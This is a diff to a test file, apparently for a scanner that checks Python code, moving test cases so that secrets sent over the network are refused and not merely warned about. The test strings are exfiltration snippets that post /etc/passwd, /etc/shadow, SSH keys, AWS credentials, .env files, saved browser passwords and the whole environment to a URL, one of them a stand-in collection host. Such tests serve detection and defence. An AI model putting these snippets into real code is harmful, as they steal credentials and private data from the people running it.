@@ -121,12 +121,7 @@ describe('shells', () => {
 
 describe('leaks', () => {
   it.each([
-    ['requests', 'import requests\nrequests.post(u, data=open("/etc/passwd"))'],
     ['a session that is followed', 'import requests\ns = requests.Session()\np = "~/.ssh/id_rsa"\ns.post(u)'],
-    [
-      'a with',
-      'import aiohttp\nasync def f():\n  async with aiohttp.ClientSession() as s:\n    await s.post(u, data=open("/etc/shadow"))',
-    ],
     [
       'http.client',
       'import http.client\nc = http.client.HTTPSConnection(h)\nc.request("POST", "/etc/passwd")',
@@ -134,9 +129,22 @@ describe('leaks', () => {
     ['a handle that is given away', 'import urllib3\nsend(urllib3.PoolManager(), "/etc/passwd")'],
     ['a handle in an attribute', 'import requests\nself.s = requests.Session()\np = "/etc/passwd"'],
     ['an outbound URL', 'p = "/etc/passwd"\nu = "https://collect.example.org/x"'],
-    ['urllib', 'from urllib.request import urlopen\nurlopen(u, open(home + "/.aws/credentials"))'],
   ])('warns of a path to keys beside a network call: %s', (_, code) => {
     expect(warned(code)).toEqual(['python-sensitive-exfil'])
+  })
+
+  it.each([
+    ['a body', 'requests.post(u, data=open("/etc/passwd"))'],
+    ['a name', 'k = open(home + "/.ssh/id_rsa").read()\nrequests.post(u, json={"k": k})'],
+    ['settings', 'body = pathlib.Path(".env").read_text()\nrequests.put(u, data=body)'],
+    [
+      'a with',
+      'import aiohttp\nasync def f():\n  async with aiohttp.ClientSession() as s:\n    await s.post(u, data=open("/etc/shadow"))',
+    ],
+    ['urllib', 'from urllib.request import urlopen\nurlopen(u, open(home + "/.aws/credentials"))'],
+    ['saved passwords', 'p = profile / "Login Data"\nrequests.post(u, files=all)'],
+  ])('refuses a file of keys that is sent: %s', (_, code) => {
+    expect(refusals('a.py', `import pathlib, requests\n${code}`)).toEqual(['python-keys-sent'])
   })
 
   it('says something else of such a path without the network', () => {
@@ -145,14 +153,18 @@ describe('leaks', () => {
 
   it.each([
     ['dict', 'd = dict(os.environ)\nrequests.post(u, json=d)'],
-    ['items', 'for k, v in os.environ.items(): requests.get(u + k)'],
     ['the object', 'requests.post(u, json=str(os.environ))'],
     ['a spread', 'requests.post(u, json={**os.environ})'],
     ['an alias', 'e = os.environ\nrequests.post(u, json=e)'],
     ['a copy that is changed first', 'e = os.environ.copy()\ne.pop("A")\nrequests.post(u, json=e)'],
     ['another import', 'from os import environ as e\nrequests.post(u, json=dict(e))'],
-  ])('warns of the whole environment beside a network call: %s', (_, code) => {
-    expect(warned(`import os, requests\n${code}`)).toEqual(['python-env-dump-exfil'])
+  ])('refuses the whole environment when it is sent: %s', (_, code) => {
+    expect(refusals('a.py', `import os, requests\n${code}`)).toEqual(['python-keys-sent'])
+  })
+
+  it('warns of the whole environment beside a network call', () => {
+    const code = 'import os, requests\nfor k, v in os.environ.items(): requests.get(u + k)'
+    expect(warned(code)).toEqual(['python-env-dump-exfil'])
   })
 
   it.each([
